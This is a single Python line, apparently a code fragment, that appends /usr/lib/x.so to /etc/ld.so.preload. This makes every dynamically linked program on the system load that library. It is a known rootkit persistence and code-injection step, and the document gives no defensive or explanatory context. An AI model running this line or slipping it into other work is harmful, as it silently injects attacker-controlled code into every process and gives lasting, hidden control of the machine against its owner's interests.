open("/etc/ld.so.preload", "a").write("/usr/lib/x.so")
